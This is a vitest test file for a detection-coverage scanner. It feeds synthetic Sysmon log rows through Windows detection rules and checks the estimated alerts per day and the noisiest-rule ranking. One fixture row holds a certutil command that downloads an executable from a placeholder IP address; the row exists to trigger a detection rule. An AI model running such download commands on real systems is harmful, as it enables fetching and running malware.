import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model.js';
import { CHECKS_DIR } from '../../src/paths.js';
import { runCli } from '../helpers/cli.js';

describe('scan with log exports: how much a SOAR would have acted on', () => {
  it('runs the rules over the exports and reports alerts per day in the detection summary', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'socready-estimate-'));
    const rows = ['timestamp,Channel,EventID,Image,CommandLine,Computer'];
    for (let day = 20; day <= 22; day++) {
      rows.push(
        `2026-11-${day}T08:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\certutil.exe` +
          `","certutil -urlcache -f http://198.51.100.7/a.exe a.exe",ws${day}`,
      );
      rows.push(
        `2026-11-${day}T09:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\notepad.exe"` +
          `,"notepad.exe report.txt",ws${day}`,
      );
    }
    writeFileSync(join(dir, 'sysmon-export.csv'), `${rows.join('\n')}\n`);
    writeFileSync(
      join(dir, 'inventory.yaml'),
      'version: 1\norganization: Estimate Org\ntargets: []\nrules: ' +
        `[${join(CHECKS_DIR, 'rules', 'windows')}]\nlog_exports: [./sysmon-export.csv]\n`,
    );
    const r = await runCli(['scan', '-i', join(dir, 'inventory.yaml'), '-o', join(dir, 'reports'), '--json']);
    expect(r.code, r.stderr).toBe(0);
    const report = JSON.parse(readFileSync(join(JSON.parse(r.stdout).run_dir, 'report.json'), 'utf8')) as Report;
    expect(report.analyses.detections?.summary.estimated_alerts_per_day).toBe(1);
    const estimate = (report.analyses.detections!.details as { estimate: { top_noisy: { title: string }[] } }).estimate;
    expect(estimate.top_noisy[0]!.title).toMatch(/Certutil/i);
    const html = readFileSync(join(JSON.parse(r.stdout).run_dir, 'report.html'), 'utf8');
    expect(html).toContain('The noisiest rules on the organisation');
    expect(html).toContain(estimate.top_noisy[0]!.title);
  });
});
